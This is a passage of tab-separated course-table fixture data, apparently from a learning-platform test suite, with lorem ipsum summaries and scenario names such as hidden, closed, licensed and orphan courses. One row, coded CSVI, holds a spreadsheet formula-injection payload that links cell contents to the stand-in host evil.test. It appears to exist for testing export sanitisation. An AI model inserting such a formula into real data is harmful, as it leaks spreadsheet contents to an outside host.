wisi. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Duis ante orci, molestie vitae vehicula venenatis, tincidunt ac pede. Pellentesque sapien.	0	topics	1	0	1788303600	0	0	0	0	0	0	1	1	\N	0	0	0				1788341260	1788341260	0	1	0	1795176001	\N	0	1
8	3	50002	Completion disabled in this course	NOCOMP		Test course 7\nLorem ipsum dolor sit amet, consectetuer adipiscing elit. Nulla non arcu lacinia neque faucibus fringilla. Vivamus porttitor turpis ac leo. Integer in sapien. Nullam eget nisl. Aliquam erat volutpat. Cras elementum. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Integer malesuada. Nullam lectus justo, vulputate eget mollis sed, tempor sed magna. Mauris elementum mauris vitae tortor. Aliquam erat volutpat.\nTemporibus autem quibusdam et aut officiis debitis aut rerum necessitatibus saepe eveniet ut et voluptates repudiandae sint et molestiae non recusandae. Pellentesque ipsum. Cras pede libero, dapibus nec, pretium sit amet, tempor quis. Aliquam ante. Proin in tellus sit amet nibh dignissim sagittis. Vivamus porttitor turpis ac leo. Duis bibendum, lectus ut viverra rhoncus, dolor nunc faucibus libero, eget facilisis enim ipsum id lacus. In sem justo, commodo ut, suscipit at, pharetra vitae, orci. Aliquam erat volutpat. Nulla est.\nVivamus luctus egestas leo. Aenean fermentum risus id tortor. Mauris dictum facilisis augue. Aliquam erat volutpat. Aliquam ornare wisi eu metus. Aliquam id dolor. Duis condimentum augue id magna semper rutrum. Donec iaculis gravida nulla. Pellentesque ipsum. Etiam dictum tincidunt diam. Quisque tincidunt scelerisque libero. Etiam egestas wisi a erat.\nInteger lacinia. Cum sociis natoque penatibus et magnis dis parturient montes, nascetur ridiculus mus. Mauris tincidunt sem sed arcu. Nullam feugiat, turpis at pulvinar vulputate, erat libero tristique tellus, nec bibendum odio risus sit amet ante. Aliquam id dolor. Maecenas sollicitudin. Et harum quidem rerum facilis est et expedita distinctio. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Nullam dapibus fermentum ipsum. Pellentesque habitant morbi tristique senectus et netus et malesuada fames ac turpis egestas. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Pellentesque sapien. Duis risus. Mauris elementum mauris vitae tortor. Suspendisse nisl. Integer rutrum, orci vestibulum ullamcorper ultricies, lacus quam ultricies odio, vitae placerat pede sem sit amet enim.\nIn laoreet, magna id viverra tincidunt, sem odio bibendum justo, vel imperdiet sapien wisi sed libero. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Nullam justo enim, consectetuer nec, ullamcorper ac, vestibulum in, elit. Quis autem vel eum iure reprehenderit qui in ea voluptate velit esse quam nihil molestiae consequatur, vel illum qui dolorem eum fugiat quo voluptas nulla pariatur? Maecenas lorem. Etiam posuere lacus quis dolor. Class aptent taciti sociosqu ad litora torquent per conubia nostra, per inceptos hymenaeos. Curabitur ligula sapien, pulvinar a vestibulum quis, facilisis vel sapien. Nam sed tellus id magna elementum tincidunt. Suspendisse nisl. Vivamus luctus egestas leo. Nulla non arcu lacinia neque faucibus fringilla. Etiam dui sem, fermentum vitae, sagittis id, malesuada in, quam. Etiam dictum tincidunt diam. Etiam commodo dui eget wisi. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Duis ante orci, molestie vitae vehicula venenatis, tincidunt ac pede. Pellentesque sapien.	0	topics	1	0	1788303600	0	0	0	0	0	0	1	1	\N	0	0	0				1788340680	1788340680	0	1	0	1795176001	\N	0	1
6	3	50004	Hidden course	HID		Test course 5\nLorem ipsum dolor sit amet, consectetuer adipiscing elit. Nulla non arcu lacinia neque faucibus fringilla. Vivamus porttitor turpis ac leo. Integer in sapien. Nullam eget nisl. Aliquam erat volutpat. Cras elementum. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Integer malesuada. Nullam lectus justo, vulputate eget mollis sed, tempor sed magna. Mauris elementum mauris vitae tortor. Aliquam erat volutpat.\nTemporibus autem quibusdam et aut officiis debitis aut rerum necessitatibus saepe eveniet ut et voluptates repudiandae sint et molestiae non recusandae. Pellentesque ipsum. Cras pede libero, dapibus nec, pretium sit amet, tempor quis. Aliquam ante. Proin in tellus sit amet nibh dignissim sagittis. Vivamus porttitor turpis ac leo. Duis bibendum, lectus ut viverra rhoncus, dolor nunc faucibus libero, eget facilisis enim ipsum id lacus. In sem justo, commodo ut, suscipit at, pharetra vitae, orci. Aliquam erat volutpat. Nulla est.\nVivamus luctus egestas leo. Aenean fermentum risus id tortor. Mauris dictum facilisis augue. Aliquam erat volutpat. Aliquam ornare wisi eu metus. Aliquam id dolor. Duis condimentum augue id magna semper rutrum. Donec iaculis gravida nulla. Pellentesque ipsum. Etiam dictum tincidunt diam. Quisque tincidunt scelerisque libero. Etiam egestas wisi a erat.\nInteger lacinia. Cum sociis natoque penatibus et magnis dis parturient montes, nascetur ridiculus mus. Mauris tincidunt sem sed arcu. Nullam feugiat, turpis at pulvinar vulputate, erat libero tristique tellus, nec bibendum odio risus sit amet ante. Aliquam id dolor. Maecenas sollicitudin. Et harum quidem rerum facilis est et expedita distinctio. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Nullam dapibus fermentum ipsum. Pellentesque habitant morbi tristique senectus et netus et malesuada fames ac turpis egestas. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Pellentesque sapien. Duis risus. Mauris elementum mauris vitae tortor. Suspendisse nisl. Integer rutrum, orci vestibulum ullamcorper ultricies, lacus quam ultricies odio, vitae placerat pede sem sit amet enim.\nIn laoreet, magna id viverra tincidunt, sem odio bibendum justo, vel imperdiet sapien wisi sed libero. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Nullam justo enim, consectetuer nec, ullamcorper ac, vestibulum in, elit. Quis autem vel eum iure reprehenderit qui in ea voluptate velit esse quam nihil molestiae consequatur, vel illum qui dolorem eum fugiat quo voluptas nulla pariatur? Maecenas lorem. Etiam posuere lacus quis dolor. Class aptent taciti sociosqu ad litora torquent per conubia nostra, per inceptos hymenaeos. Curabitur ligula sapien, pulvinar a vestibulum quis, facilisis vel sapien. Nam sed tellus id magna elementum tincidunt. Suspendisse nisl. Vivamus luctus egestas leo. Nulla non arcu lacinia neque faucibus fringilla. Etiam dui sem, fermentum vitae, sagittis id, malesuada in, quam. Etiam dictum tincidunt diam. Etiam commodo dui eget wisi. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Duis ante orci, molestie vitae vehicula venenatis, tincidunt ac pede. Pellentesque sapien.	0	topics	1	0	1788303600	0	0	0	0	0	0	0	0	\N	0	0	0				1788340380	1788340380	0	1	0	1795176001	\N	0	1
7	3	50003	Zero tracked activities	ZERO		Test course 6\nLorem ipsum dolor sit amet, consectetuer adipiscing elit. Nulla non arcu lacinia neque faucibus fringilla. Vivamus porttitor turpis ac leo. Integer in sapien. Nullam eget nisl. Aliquam erat volutpat. Cras elementum. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Integer malesuada. Nullam lectus justo, vulputate eget mollis sed, tempor sed magna. Mauris elementum mauris vitae tortor. Aliquam erat volutpat.\nTemporibus autem quibusdam et aut officiis debitis aut rerum necessitatibus saepe eveniet ut et voluptates repudiandae sint et molestiae non recusandae. Pellentesque ipsum. Cras pede libero, dapibus nec, pretium sit amet, tempor quis. Aliquam ante. Proin in tellus sit amet nibh dignissim sagittis. Vivamus porttitor turpis ac leo. Duis bibendum, lectus ut viverra rhoncus, dolor nunc faucibus libero, eget facilisis enim ipsum id lacus. In sem justo, commodo ut, suscipit at, pharetra vitae, orci. Aliquam erat volutpat. Nulla est.\nVivamus luctus egestas leo. Aenean fermentum risus id tortor. Mauris dictum facilisis augue. Aliquam erat volutpat. Aliquam ornare wisi eu metus. Aliquam id dolor. Duis condimentum augue id magna semper rutrum. Donec iaculis gravida nulla. Pellentesque ipsum. Etiam dictum tincidunt diam. Quisque tincidunt scelerisque libero. Etiam egestas wisi a erat.\nInteger lacinia. Cum sociis natoque penatibus et magnis dis parturient montes, nascetur ridiculus mus. Mauris tincidunt sem sed arcu. Nullam feugiat, turpis at pulvinar vulputate, erat libero tristique tellus, nec bibendum odio risus sit amet ante. Aliquam id dolor. Maecenas sollicitudin. Et harum quidem rerum facilis est et expedita distinctio. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Nullam dapibus fermentum ipsum. Pellentesque habitant morbi tristique senectus et netus et malesuada fames ac turpis egestas. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Pellentesque sapien. Duis risus. Mauris elementum mauris vitae tortor. Suspendisse nisl. Integer rutrum, orci vestibulum ullamcorper ultricies, lacus quam ultricies odio, vitae placerat pede sem sit amet enim.\nIn laoreet, magna id viverra tincidunt, sem odio bibendum justo, vel imperdiet sapien wisi sed libero. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Nullam justo enim, consectetuer nec, ullamcorper ac, vestibulum in, elit. Quis autem vel eum iure reprehenderit qui in ea voluptate velit esse quam nihil molestiae consequatur, vel illum qui dolorem eum fugiat quo voluptas nulla pariatur? Maecenas lorem. Etiam posuere lacus quis dolor. Class aptent taciti sociosqu ad litora torquent per conubia nostra, per inceptos hymenaeos. Curabitur ligula sapien, pulvinar a vestibulum quis, facilisis vel sapien. Nam sed tellus id magna elementum tincidunt. Suspendisse nisl. Vivamus luctus egestas leo. Nulla non arcu lacinia neque faucibus fringilla. Etiam dui sem, fermentum vitae, sagittis id, malesuada in, quam. Etiam dictum tincidunt diam. Etiam commodo dui eget wisi. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Duis ante orci, molestie vitae vehicula venenatis, tincidunt ac pede. Pellentesque sapien.	0	topics	1	0	1788303600	0	0	0	0	0	0	1	1	\N	0	0	0				1788340540	1788340540	0	1	0	1795176001	\N	0	1
12	5	30002	=HYPERLINK("http://evil.test/?"&A1,"click")	CSVI		Test course 11\nLorem ipsum dolor sit amet, consectetuer adipiscing elit. Nulla non arcu lacinia neque faucibus fringilla. Vivamus porttitor turpis ac leo. Integer in sapien. Nullam eget nisl. Aliquam erat volutpat. Cras elementum. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Integer malesuada. Nullam lectus justo, vulputate eget mollis sed, tempor sed magna. Mauris elementum mauris vitae tortor. Aliquam erat volutpat.\nTemporibus autem quibusdam et aut officiis debitis aut rerum necessitatibus saepe eveniet ut et voluptates repudiandae sint et molestiae non recusandae. Pellentesque ipsum. Cras pede libero, dapibus nec, pretium sit amet, tempor quis. Aliquam ante. Proin in tellus sit amet nibh dignissim sagittis. Vivamus porttitor turpis ac leo. Duis bibendum, lectus ut viverra rhoncus, dolor nunc faucibus libero, eget facilisis enim ipsum id lacus. In sem justo, commodo ut, suscipit at, pharetra vitae, orci. Aliquam erat volutpat. Nulla est.\nVivamus luctus egestas leo. Aenean fermentum risus id tortor. Mauris dictum facilisis augue. Aliquam erat volutpat. Aliquam ornare wisi eu metus. Aliquam id dolor. Duis condimentum augue id magna semper rutrum. Donec iaculis gravida nulla. Pellentesque ipsum. Etiam dictum tincidunt diam. Quisque tincidunt scelerisque libero. Etiam egestas wisi a erat.\nInteger lacinia. Cum sociis natoque penatibus et magnis dis parturient montes, nascetur ridiculus mus. Mauris tincidunt sem sed arcu. Nullam feugiat, turpis at pulvinar vulputate, erat libero tristique tellus, nec bibendum odio risus sit amet ante. Aliquam id dolor. Maecenas sollicitudin. Et harum quidem rerum facilis est et expedita distinctio. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Nullam dapibus fermentum ipsum. Pellentesque habitant morbi tristique senectus et netus et malesuada fames ac turpis egestas. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Pellentesque sapien. Duis risus. Mauris elementum mauris vitae tortor. Suspendisse nisl. Integer rutrum, orci vestibulum ullamcorper ultricies, lacus quam ultricies odio, vitae placerat pede sem sit amet enim.\nIn laoreet, magna id viverra tincidunt, sem odio bibendum justo, vel imperdiet sapien wisi sed libero. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Nullam justo enim, consectetuer nec, ullamcorper ac, vestibulum in, elit. Quis autem vel eum iure reprehenderit qui in ea voluptate velit esse quam nihil molestiae consequatur, vel illum qui dolorem eum fugiat quo voluptas nulla pariatur? Maecenas lorem. Etiam posuere lacus quis dolor. Class aptent taciti sociosqu ad litora torquent per conubia nostra, per inceptos hymenaeos. Curabitur ligula sapien, pulvinar a vestibulum quis, facilisis vel sapien. Nam sed tellus id magna elementum tincidunt. Suspendisse nisl. Vivamus luctus egestas leo. Nulla non arcu lacinia neque faucibus fringilla. Etiam dui sem, fermentum vitae, sagittis id, malesuada in, quam. Etiam dictum tincidunt diam. Etiam commodo dui eget wisi. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Duis ante orci, molestie vitae vehicula venenatis, tincidunt ac pede. Pellentesque sapien.	0	topics	1	0	1788303600	0	0	0	0	0	0	1	1	\N	0	0	0				1788341420	1788341420	0	1	0	1795176001	\N	0	1
4	2	60002	Closed shared course (Acme+Globex)	CLOSED		Test course 3\nLorem ipsum dolor sit amet, consectetuer adipiscing elit. Nulla non arcu lacinia neque faucibus fringilla. Vivamus porttitor turpis ac leo. Integer in sapien. Nullam eget nisl. Aliquam erat volutpat. Cras elementum. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Integer malesuada. Nullam lectus justo, vulputate eget mollis sed, tempor sed magna. Mauris elementum mauris vitae tortor. Aliquam erat volutpat.\nTemporibus autem quibusdam et aut officiis debitis aut rerum necessitatibus saepe eveniet ut et voluptates repudiandae sint et molestiae non recusandae. Pellentesque ipsum. Cras pede libero, dapibus nec, pretium sit amet, tempor quis. Aliquam ante. Proin in tellus sit amet nibh dignissim sagittis. Vivamus porttitor turpis ac leo. Duis bibendum, lectus ut viverra rhoncus, dolor nunc faucibus libero, eget facilisis enim ipsum id lacus. In sem justo, commodo ut, suscipit at, pharetra vitae, orci. Aliquam erat volutpat. Nulla est.\nVivamus luctus egestas leo. Aenean fermentum risus id tortor. Mauris dictum facilisis augue. Aliquam erat volutpat. Aliquam ornare wisi eu metus. Aliquam id dolor. Duis condimentum augue id magna semper rutrum. Donec iaculis gravida nulla. Pellentesque ipsum. Etiam dictum tincidunt diam. Quisque tincidunt scelerisque libero. Etiam egestas wisi a erat.\nInteger lacinia. Cum sociis natoque penatibus et magnis dis parturient montes, nascetur ridiculus mus. Mauris tincidunt sem sed arcu. Nullam feugiat, turpis at pulvinar vulputate, erat libero tristique tellus, nec bibendum odio risus sit amet ante. Aliquam id dolor. Maecenas sollicitudin. Et harum quidem rerum facilis est et expedita distinctio. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Nullam dapibus fermentum ipsum. Pellentesque habitant morbi tristique senectus et netus et malesuada fames ac turpis egestas. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Pellentesque sapien. Duis risus. Mauris elementum mauris vitae tortor. Suspendisse nisl. Integer rutrum, orci vestibulum ullamcorper ultricies, lacus quam ultricies odio, vitae placerat pede sem sit amet enim.\nIn laoreet, magna id viverra tincidunt, sem odio bibendum justo, vel imperdiet sapien wisi sed libero. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Nullam justo enim, consectetuer nec, ullamcorper ac, vestibulum in, elit. Quis autem vel eum iure reprehenderit qui in ea voluptate velit esse quam nihil molestiae consequatur, vel illum qui dolorem eum fugiat quo voluptas nulla pariatur? Maecenas lorem. Etiam posuere lacus quis dolor. Class aptent taciti sociosqu ad litora torquent per conubia nostra, per inceptos hymenaeos. Curabitur ligula sapien, pulvinar a vestibulum quis, facilisis vel sapien. Nam sed tellus id magna elementum tincidunt. Suspendisse nisl. Vivamus luctus egestas leo. Nulla non arcu lacinia neque faucibus fringilla. Etiam dui sem, fermentum vitae, sagittis id, malesuada in, quam. Etiam dictum tincidunt diam. Etiam commodo dui eget wisi. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Duis ante orci, molestie vitae vehicula venenatis, tincidunt ac pede. Pellentesque sapien.	0	topics	1	0	1788303600	0	0	0	0	0	0	1	1	\N	1	0	0				1788339960	1788339960	0	1	0	1795176001	\N	0	1
10	4	40002	Licensed course	LICD		Test course 9\nLorem ipsum dolor sit amet, consectetuer adipiscing elit. Nulla non arcu lacinia neque faucibus fringilla. Vivamus porttitor turpis ac leo. Integer in sapien. Nullam eget nisl. Aliquam erat volutpat. Cras elementum. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Integer malesuada. Nullam lectus justo, vulputate eget mollis sed, tempor sed magna. Mauris elementum mauris vitae tortor. Aliquam erat volutpat.\nTemporibus autem quibusdam et aut officiis debitis aut rerum necessitatibus saepe eveniet ut et voluptates repudiandae sint et molestiae non recusandae. Pellentesque ipsum. Cras pede libero, dapibus nec, pretium sit amet, tempor quis. Aliquam ante. Proin in tellus sit amet nibh dignissim sagittis. Vivamus porttitor turpis ac leo. Duis bibendum, lectus ut viverra rhoncus, dolor nunc faucibus libero, eget facilisis enim ipsum id lacus. In sem justo, commodo ut, suscipit at, pharetra vitae, orci. Aliquam erat volutpat. Nulla est.\nVivamus luctus egestas leo. Aenean fermentum risus id tortor. Mauris dictum facilisis augue. Aliquam erat volutpat. Aliquam ornare wisi eu metus. Aliquam id dolor. Duis condimentum augue id magna semper rutrum. Donec iaculis gravida nulla. Pellentesque ipsum. Etiam dictum tincidunt diam. Quisque tincidunt scelerisque libero. Etiam egestas wisi a erat.\nInteger lacinia. Cum sociis natoque penatibus et magnis dis parturient montes, nascetur ridiculus mus. Mauris tincidunt sem sed arcu. Nullam feugiat, turpis at pulvinar vulputate, erat libero tristique tellus, nec bibendum odio risus sit amet ante. Aliquam id dolor. Maecenas sollicitudin. Et harum quidem rerum facilis est et expedita distinctio. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Nullam dapibus fermentum ipsum. Pellentesque habitant morbi tristique senectus et netus et malesuada fames ac turpis egestas. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Pellentesque sapien. Duis risus. Mauris elementum mauris vitae tortor. Suspendisse nisl. Integer rutrum, orci vestibulum ullamcorper ultricies, lacus quam ultricies odio, vitae placerat pede sem sit amet enim.\nIn laoreet, magna id viverra tincidunt, sem odio bibendum justo, vel imperdiet sapien wisi sed libero. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Nullam justo enim, consectetuer nec, ullamcorper ac, vestibulum in, elit. Quis autem vel eum iure reprehenderit qui in ea voluptate velit esse quam nihil molestiae consequatur, vel illum qui dolorem eum fugiat quo voluptas nulla pariatur? Maecenas lorem. Etiam posuere lacus quis dolor. Class aptent taciti sociosqu ad litora torquent per conubia nostra, per inceptos hymenaeos. Curabitur ligula sapien, pulvinar a vestibulum quis, facilisis vel sapien. Nam sed tellus id magna elementum tincidunt. Suspendisse nisl. Vivamus luctus egestas leo. Nulla non arcu lacinia neque faucibus fringilla. Etiam dui sem, fermentum vitae, sagittis id, malesuada in, quam. Etiam dictum tincidunt diam. Etiam commodo dui eget wisi. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Duis ante orci, molestie vitae vehicula venenatis, tincidunt ac pede. Pellentesque sapien.	0	topics	1	0	1788303600	0	0	0	0	0	0	1	1	\N	0	0	0				1788341080	1788341080	0	1	0	1795176001	\N	0	1
14	6	20001	Prerequisite: Onboarding	PRE		Test course 13\nLorem ipsum dolor sit amet, consectetuer adipiscing elit. Nulla non arcu lacinia neque faucibus fringilla. Vivamus porttitor turpis ac leo. Integer in sapien. Nullam eget nisl. Aliquam erat volutpat. Cras elementum. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Integer malesuada. Nullam lectus justo, vulputate eget mollis sed, tempor sed magna. Mauris elementum mauris vitae tortor. Aliquam erat volutpat.\nTemporibus autem quibusdam et aut officiis debitis aut rerum necessitatibus saepe eveniet ut et voluptates repudiandae sint et molestiae non recusandae. Pellentesque ipsum. Cras pede libero, dapibus nec, pretium sit amet, tempor quis. Aliquam ante. Proin in tellus sit amet nibh dignissim sagittis. Vivamus porttitor turpis ac leo. Duis bibendum, lectus ut viverra rhoncus, dolor nunc faucibus libero, eget facilisis enim ipsum id lacus. In sem justo, commodo ut, suscipit at, pharetra vitae, orci. Aliquam erat volutpat. Nulla est.\nVivamus luctus egestas leo. Aenean fermentum risus id tortor. Mauris dictum facilisis augue. Aliquam erat volutpat. Aliquam ornare wisi eu metus. Aliquam id dolor. Duis condimentum augue id magna semper rutrum. Donec iaculis gravida nulla. Pellentesque ipsum. Etiam dictum tincidunt diam. Quisque tincidunt scelerisque libero. Etiam egestas wisi a erat.\nInteger lacinia. Cum sociis natoque penatibus et magnis dis parturient montes, nascetur ridiculus mus. Mauris tincidunt sem sed arcu. Nullam feugiat, turpis at pulvinar vulputate, erat libero tristique tellus, nec bibendum odio risus sit amet ante. Aliquam id dolor. Maecenas sollicitudin. Et harum quidem rerum facilis est et expedita distinctio. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Nullam dapibus fermentum ipsum. Pellentesque habitant morbi tristique senectus et netus et malesuada fames ac turpis egestas. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Pellentesque sapien. Duis risus. Mauris elementum mauris vitae tortor. Suspendisse nisl. Integer rutrum, orci vestibulum ullamcorper ultricies, lacus quam ultricies odio, vitae placerat pede sem sit amet enim.\nIn laoreet, magna id viverra tincidunt, sem odio bibendum justo, vel imperdiet sapien wisi sed libero. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Nullam justo enim, consectetuer nec, ullamcorper ac, vestibulum in, elit. Quis autem vel eum iure reprehenderit qui in ea voluptate velit esse quam nihil molestiae consequatur, vel illum qui dolorem eum fugiat quo voluptas nulla pariatur? Maecenas lorem. Etiam posuere lacus quis dolor. Class aptent taciti sociosqu ad litora torquent per conubia nostra, per inceptos hymenaeos. Curabitur ligula sapien, pulvinar a vestibulum quis, facilisis vel sapien. Nam sed tellus id magna elementum tincidunt. Suspendisse nisl. Vivamus luctus egestas leo. Nulla non arcu lacinia neque faucibus fringilla. Etiam dui sem, fermentum vitae, sagittis id, malesuada in, quam. Etiam dictum tincidunt diam. Etiam commodo dui eget wisi. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Duis ante orci, molestie vitae vehicula venenatis, tincidunt ac pede. Pellentesque sapien.	0	topics	1	0	1788303600	0	0	0	0	0	0	1	1	\N	0	0	0				1788341740	1788341740	0	1	0	1795176001	\N	0	1
16	1	70001	Orphan course (no company)	ORPH		Test course 15\nLorem ipsum dolor sit amet, consectetuer adipiscing elit. Nulla non arcu lacinia neque faucibus fringilla. Vivamus porttitor turpis ac leo. Integer in sapien. Nullam eget nisl. Aliquam erat volutpat. Cras elementum. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Integer malesuada. Nullam lectus justo, vulputate eget mollis sed, tempor sed magna. Mauris elementum mauris vitae tortor. Aliquam erat volutpat.\nTemporibus autem quibusdam et aut officiis debitis aut rerum necessitatibus saepe eveniet ut et voluptates repudiandae sint et molestiae non recusandae. Pellentesque ipsum. Cras pede libero, dapibus nec, pretium sit amet, tempor quis. Aliquam ante. Proin in tellus sit amet nibh dignissim sagittis. Vivamus porttitor turpis ac leo. Duis bibendum, lectus ut viverra rhoncus, dolor nunc faucibus libero, eget facilisis enim ipsum id lacus. In sem justo, commodo ut, suscipit at, pharetra vitae, orci. Aliquam erat volutpat. Nulla est.\nVivamus luctus egestas leo. Aenean fermentum risus id tortor. Mauris dictum facilisis augue. Aliquam erat volutpat. Aliquam ornare wisi eu metus. Aliquam id dolor. Duis condimentum augue id magna semper rutrum. Donec iaculis gravida nulla. Pellentesque ipsum. Etiam dictum tincidunt diam. Quisque tincidunt scelerisque libero. Etiam egestas wisi a erat.\nInteger lacinia. Cum sociis natoque penatibus et magnis dis parturient montes, nascetur ridiculus mus. Mauris tincidunt sem sed arcu. Nullam feugiat, turpis at pulvinar vulputate, erat libero tristique tellus, nec bibendum odio risus sit amet ante. Aliquam id dolor. Maecenas sollicitudin. Et harum quidem rerum facilis est et expedita distinctio. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Nullam dapibus fermentum ipsum. Pellentesque habitant morbi tristique senectus et netus et malesuada fames ac turpis egestas. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Pellentesque sapien. Duis risus. Mauris elementum mauris vitae tortor. Suspendisse nisl. Integer rutrum, orci vestibulum ullamcorper ultricies, lacus quam ultricies odio, vitae placerat pede sem sit amet enim.\nIn laoreet, magna id viverra tincidunt, sem odio bibendum justo, vel imperdiet sapien wisi sed libero. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Nullam justo enim, consectetuer nec, ullamcorper ac, vestibulum in, elit. Quis autem vel eum iure reprehenderit qui in ea voluptate velit esse quam nihil molestiae consequatur, vel illum qui dolorem eum fugiat quo voluptas nulla pariatur? Maecenas lorem. Etiam posuere lacus quis dolor. Class aptent taciti sociosqu ad litora torquent per conubia nostra, per inceptos hymenaeos. Curabitur ligula sapien, pulvinar a vestibulum quis, facilisis vel sapien. Nam sed tellus id magna elementum tincidunt. Suspendisse nisl. Vivamus luctus egestas leo. Nulla non arcu lacinia neque faucibus fringilla. Etiam dui sem, fermentum vitae, sagittis id, malesuada in, quam. Etiam dictum tincidunt diam. Etiam commodo dui eget wisi. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Duis ante orci, molestie vitae vehicula venenatis, tincidunt ac pede. Pellentesque sapien.	0	topics	1	0	1788303600	0	0	0	0	0	0	1	1	\N	0	0	0				1788342120	1788342120	0	1	0	1795176001	\N	0	1
5	1	70002	Open shared course 全社共有 🎓🚀 – für alle	OPEN		Test course 4\nLorem ipsum dolor sit amet, consectetuer adipiscing elit. Nulla non arcu lacinia neque faucibus fringilla. Vivamus porttitor turpis ac leo. Integer in sapien. Nullam eget nisl. Aliquam erat volutpat. Cras elementum. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Integer malesuada. Nullam lectus justo, vulputate eget mollis sed, tempor sed magna. Mauris elementum mauris vitae tortor. Aliquam erat volutpat.\nTemporibus autem quibusdam et aut officiis debitis aut rerum necessitatibus saepe eveniet ut et voluptates repudiandae sint et molestiae non recusandae. Pellentesque ipsum. Cras pede libero, dapibus nec, pretium sit amet, tempor quis. Aliquam ante. Proin in tellus sit amet nibh dignissim sagittis. Vivamus porttitor turpis ac leo. Duis bibendum, lectus ut viverra rhoncus, dolor nunc faucibus libero, eget facilisis enim ipsum id lacus. In sem justo, commodo ut, suscipit at, pharetra vitae, orci. Aliquam erat volutpat. Nulla est.\nVivamus luctus egestas leo. Aenean fermentum risus id tortor. Mauris dictum facilisis augue. Aliquam erat volutpat. Aliquam ornare wisi eu metus. Aliquam id dolor. Duis condimentum augue id magna semper rutrum. Donec iaculis gravida nulla. Pellentesque ipsum. Etiam dictum tincidunt diam. Quisque tincidunt scelerisque libero. Etiam egestas wisi a erat.\nInteger lacinia. Cum sociis natoque penatibus et magnis dis parturient 